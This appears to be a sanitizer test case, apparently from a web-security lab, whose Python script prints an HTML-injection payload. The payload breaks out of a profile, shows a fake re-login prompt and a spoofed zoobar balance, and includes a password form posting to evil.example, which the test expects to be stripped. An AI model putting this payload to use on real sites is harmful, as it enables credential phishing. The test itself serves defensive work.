#!python
# Closes the elements around the profile and goes on as if it were the page: a heading, a balance, a form for the
# password.
# Wall: output becomes one fragment whose elements are all closed; no forms, ids or classes
# Expect: done
# Output: Please log in again
# Absent: <form[^>]*evil
# Absent: id="zoobars" class="1000000"
# Absent: <input[^>]*password
print("""</div></section></main></body></html><h1>Please log in again</h1>
<span id="zoobars" class="1000000">1000000 zoobars</span>
<form action="http://evil.example/" method="post">
<input name="login_password" type="password"><button>Log in</button></form>
<div id="profile">another</div><section id="log-title" class="card">
<p class="message notice" role="status">Sent 10 zoobars</p>""")
